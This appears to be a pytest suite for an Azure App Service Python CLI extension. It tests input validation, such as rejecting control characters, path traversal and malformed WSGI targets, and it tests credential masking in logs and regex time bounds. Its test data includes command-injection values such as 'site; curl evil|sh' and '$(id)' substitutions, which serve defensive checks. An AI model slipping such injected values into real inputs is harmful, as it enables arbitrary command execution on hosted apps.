"""Free text that ends up in a script on the app: control characters, paths, targets, versions; and what leaves the
process (credential masking, one-line escaping)."""

import shlex

import pytest
from hypothesis import given, strategies as st

from azext_pyappsvc.platform.errors import InvalidValue
from azext_pyappsvc.platform.inputs import refuse_control_characters, relative_path_problem
from azext_pyappsvc.platform.redact import MASK, mask_credentials, one_line, scrub
from azext_pyappsvc.platform.runtimes import VersionInputError, parse_version_input
from azext_pyappsvc.platform.startup.command import is_valid_target, parse_command
from azext_pyappsvc.platform.startup.compose import compose

CONTROL = ["\n", "\r", "\x1b", "\x1b]0;title\x07", "\x00", "\x7f", "\x85", "\x9b", "\u2028", "\u2029", "\u202e",
           "\u2066"]


@pytest.mark.parametrize("character", CONTROL)
def test_every_control_character_is_refused(character):
    with pytest.raises(InvalidValue, match="contains control characters"):
        refuse_control_characters("command", f"gunicorn{character}app:app", "a command on one line")


def test_tab_and_ordinary_unicode_pass():
    refuse_control_characters("command", "gunicorn\tapp:app # café ✓", "")
    refuse_control_characters("command", None, "")


@pytest.mark.parametrize("value, problem", [
    ("src", None), ("my site/app", None), ("src/", None), ("a.b-c_d+e@f,g=h", None), ("données", None),
    ("/home/site", "is not a relative path"), ("~/app", "is not a relative path"), ("C:/app", "is not a relative"),
    ("../app", "leaves the app's folder"), ("src/../../etc", "leaves the app's folder"),
    ("site; curl evil|sh", "not part of a plain path"), ("$(id)", "not part of a plain path"),
    ("a`b`", "not part of a plain path"), ("a'b", "not part of a plain path"), ('a"b', "not part of a plain"),
    ("src//x", "not part of a plain path"), ("", "not part of a plain path"), (" src", "starts or ends with a space"),
    ("src /x", "starts or ends with a space"), ("a\\b", "not part of a plain path"),
])
def test_relative_paths(value, problem):
    found = relative_path_problem(value)
    assert found is None if problem is None else problem in (found or "-")


@pytest.mark.parametrize("target, valid", [
    ("app:app", True), ("mysite.wsgi", True), ("app:create_app()", True), ("pkg.sub.mod:application", True),
    ("café:app", True), ("app:app\n", False), ("app:app ", False), ("app:app; id", False), ("app:", False),
    (":app", False), ("app:app()()", False), ("app:create_app(1)", False), ("1app:app", False), ("a..b:app", False),
    ("class:app", False), ("app:import", False), ("app:app\x85", False), ("", False), (None, False),
    ("app.:app", False), ("app:a.b", False), ("$(id):app", False),
])
def test_targets_full_match(target, valid):
    assert is_valid_target(target) is valid


@pytest.mark.parametrize("value", ["3.013", "03.12", "3.1\u0662", "３.１２", "3.12\n", "3.\u0661\u0662", "3.12.04",
                                   "3.12\x00", "3.12\u2028"])
def test_version_takes_ascii_digits_without_leading_zeros(value):
    with pytest.raises(VersionInputError):
        parse_version_input(value)


def test_version_zero_minor_and_patch_still_parse():
    assert parse_version_input("3.0") == "3.0" and parse_version_input("3.10.0") == "3.10"


@pytest.mark.parametrize("chdir, module", [("my site", "app:app"), ("src", "app:create_app()"), (None, "a.wsgi"),
                                           ("a+b/c d", "main:app")])
def test_composed_commands_quote_what_needs_quoting_and_read_back(chdir, module):
    command = compose(module, chdir, 2, 120, "uvicorn")
    parsed = parse_command(command)
    assert (parsed.chdir, parsed.target, parsed.workers) == (chdir, module, "2")
    assert shlex.split(command)[-1] == module


@pytest.mark.parametrize("value, leaked", [
    ("pip config set global.extra-index-url https://build:s3cr3tT0ken@pkgs.example/simple", "s3cr3tT0ken"),
    (" https://acct.blob.core.windows.net/c/app.zip?sv=2024&sig=AbC%2Bsig123&se=2027", "AbC%2Bsig123"),
    ("curl https://x.example/?token=tok-987654 -H 'Authorization: Bearer eyJhbGciOi.x.y'", "tok-987654"),
    ("curl -H 'Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.payload.sig' x", "eyJhbGciOiJSUzI1NiJ9"),
    ("DefaultEndpointsProtocol=https;AccountName=a;AccountKey=KEY+/abc==;EndpointSuffix=x", "KEY+/abc=="),
    ("postgres://admin:hunter2pass@db.example:5432/app", "hunter2pass"),
    ("https://ghp_tokenvalue123@github.com/o/r.git", "ghp_tokenvalue123"),
    ("run --password=pa55word --api-key abc", "pa55word"),
])
def test_credentials_are_masked_anywhere_in_a_value(value, leaked):
    masked = mask_credentials(value)
    assert leaked not in masked and MASK in masked


def test_scrub_masks_secret_values_and_their_json_spelling():
    secret = 'p"a\\ss-w0rd'
    echoed = 'Azure answered 400: {"DB_PASSWORD": "p\\"a\\\\ss-w0rd"}'
    assert secret not in scrub(f"value {secret}", [secret])
    assert "w0rd" not in scrub(echoed, [secret])


@given(st.text())
def test_one_line_leaves_no_control_character_and_no_second_line(text):
    escaped = one_line(text)
    assert len(escaped.splitlines()) <= 1
    refuse_control_characters("x", escaped, "")      # raises if one is left


@pytest.mark.parametrize("value", [
    "PGPASSWORD={} psql", "DB_PASSWORD={}", "GITHUB_TOKEN={} make", 'password="{}"', "--password='{}'",
    "psql --password {}", "curl -u user:{} https://x", "redis://:{}@host:6379", "https://u:p@ss{}@host/x",
    "AWS_SECRET_ACCESS_KEY={}", "sas_token={}", "passphrase={}", "Authorization: Basic {}", "bearer abc{}",
    "sig=abc{},rest", "<Password>{}</Password>", "https://fn.example/api/x?code={}&name=y",
    "git+https://{}@github.com/o/r.git", "mongodb+srv://user:{}@cluster0.example/db", "x-ms-signature: {}",
    "{{'Authorization': 'Bearer {}'}}", "password=b'{}'", "[('DB_PASSWORD', '{}')]", "DB_PASS={} gunicorn app:app",
    "Pwd={{se;{}}};Server=x", "Password=my {} phrase;Database=y", "client_secret%3D{}", "secret: r'{}'",
])
def test_credentials_in_every_common_spelling(value):
    canary = "Zq9canary"
    assert canary not in mask_credentials(value.format(canary))


def test_basic_credentials_and_bare_json_web_tokens_are_masked():
    assert "dXNlcjpwYXNzd29yZA" not in mask_credentials("{'Authorization': 'Basic dXNlcjpwYXNzd29yZA=='}")
    assert "dXNlcjpwYXNzd29yZA" not in mask_credentials("header Basic dXNlcjpwYXNzd29yZA==")
    assert mask_credentials("invalid token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln rejected") == \
        f"invalid token {MASK} rejected"


@pytest.mark.parametrize("text", [
    "gunicorn --bind=0.0.0.0 --timeout 600 --keyfile key.pem --certfile cert.pem app:app",
    "KeyError: 'DB_PASSWORD'", "TokenError: refresh failed", "basic authentication is disabled",
    "bypass=true compass=north", "pip install eyJ.tools",
    "SCM_DO_BUILD_DURING_DEPLOYMENT=maybe", "WEBSITE_AUTH_ENABLED=true", "KEY_VAULT_NAME=kv-prod",
    "Azure answered 500 for app 'py-web'", "status code: 409", "python manage.py runserver 0.0.0.0:${PORT}",
    "The primary key of the table is missing.", "mkdir -p build && pip install -r requirements.txt",
])
def test_ordinary_text_is_left_alone(text):
    assert mask_credentials(text) == text


@pytest.mark.parametrize("hostile", ["a-" * 60_000, "a+" * 60_000, "v1.2.3." * 17_000, '"' + "key" * 40_000,
                                     "a://" * 30_000, "x=y&" * 30_000, "--key " * 20_000, "<key>" * 24_000,
                                     "@" * 120_000, "://@" * 30_000, "password=" * 13_000, "\\\"key\\\": \\\"" * 9_000,
                                     "pwd:a " * 20_000, "pwd=a " * 20_000, "pwd: {" * 20_000, "basic " * 20_000,
                                     "eyJa." * 24_000, "('key', " * 15_000, "password=b" * 12_000])
def test_masking_takes_linear_time(hostile):
    """A quadratic pattern takes minutes on these 120 KB values (a startup command can be that long); run on a
    thread with a generous guard, so a regression fails instead of hanging."""
    import threading
    worker = threading.Thread(target=lambda: (mask_credentials(hostile), scrub(hostile, ["abcd"], ["KEY"])),
                              daemon=True)
    worker.start()
    worker.join(60)
    assert not worker.is_alive()


def test_one_line_escapes_lone_surrogates_from_undecodable_names():
    assert one_line("mysite\udcff") == "mysite\\udcff"
